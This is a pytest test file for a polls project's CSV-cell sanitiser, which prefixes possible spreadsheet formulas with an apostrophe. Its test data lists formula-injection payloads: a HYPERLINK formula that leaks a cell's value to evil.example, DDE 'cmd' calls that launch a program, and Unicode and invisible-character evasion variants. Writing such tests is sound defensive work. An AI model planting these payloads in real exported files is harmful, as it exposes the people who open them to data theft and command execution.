import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from polls.text.csv_rows import cell, csv_lines

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Results")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",  # small
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "⁼1",  # superscript
    "⁺1",
    "−1",  # the minus sign
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",  # zero width
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",  # right to left
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_possible_formula_gets_an_apostrophe(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Pizza", "a=b", "1 + 1", "Ø", "ﬁne", "50 %", "“=1”", "🍕", "\u200b"])
def test_other_text_is_unchanged(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "shown"),
    [(-5, "-5"), (2.5, "2.5"), (Decimal("-0.1"), "-0.1"), (True, "True"), (None, ""), (0, "0")],
)
def test_numbers_keep_their_sign(value, shown):
    assert cell(value) == shown


def test_separators_in_a_cell_are_quoted():
    """Otherwise a text could start a new cell with a formula."""
    rows = [["code", "label"], ["x", 'a","=1+1'], ["y", 'a;=1+1\r\n=2+2,"']]
    text = "".join(csv_lines(rows))
    assert text.startswith('"code","label"\r\n')
    assert list(csv.reader(io.StringIO(text, newline=""))) == rows


def test_lines_are_generated_lazily():
    lines = csv_lines([n] for n in iter(int, 1))
    assert next(lines) == '"0"\r\n'


@given(st.lists(st.lists(st.text(), min_size=1), min_size=1))
def test_rows_round_trip(rows):
    read = list(csv.reader(io.StringIO("".join(csv_lines(rows)), newline="")))
    assert [[text.removeprefix("'") for text in row] for row in read] == rows
    assert not any(text[:1] in tuple("=+-@\t\r") for row in read for text in row)
